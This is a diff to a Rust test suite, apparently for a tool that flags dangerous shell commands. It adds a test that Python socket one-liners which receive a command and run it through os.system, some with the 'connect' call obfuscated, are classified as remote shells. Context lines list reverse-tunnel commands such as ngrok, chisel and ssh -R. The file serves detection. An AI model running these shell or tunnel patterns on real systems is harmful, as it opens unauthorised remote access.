@@ -316,6 +316,21 @@ fn a_script_that_npm_runs_by_itself_is_looked_into() {
 }
 
 #[test]
+fn a_socket_that_is_joined_to_nobody_tells_nothing() {
+    let whole = |how: &str| format!("python3 -c 'import os, socket\ns = socket.socket()\n{how}\nos.system(c)'");
+    for how in [
+        "s.connect((H, 1)); c = s.recv(9)",
+        "getattr(s, \"connect\")((H, 1)); c = f.read()",
+        "getattr(s, \"con\" + \"nect\")((H, 1)); c = s.makefile().read()",
+        "s.bind((H, 1)); c = s.accept()[0].recv(9)",
+    ] {
+        is_told(&whole(how), Hazard::RemoteShell);
+    }
+    let effects = told(&whole("s.close(); c = open(p).read()"));
+    assert!(!effects.hazards().any(|it| it == Hazard::RemoteShell), "{effects:?}");
+}
+
+#[test]
 fn tunnels_into_this_machine_are_more_than_an_open_port() {
     for command in
         ["ngrok tcp 22", "chisel client x.example:80 R:socks", "ssh -R 1080 x.example", "tmate -F", "ttyd bash"]
